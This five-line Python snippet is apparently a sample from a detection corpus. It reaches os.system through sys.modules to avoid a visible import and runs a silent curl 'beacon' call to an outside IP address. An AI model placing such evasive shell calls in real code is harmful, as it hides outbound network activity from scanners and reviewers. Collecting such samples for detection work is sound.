# corpus: sys.modules["os"].system lookup avoiding a direct os import
import sys

sys.modules["os"].system("curl -s http://198.51.100.4/beacon")
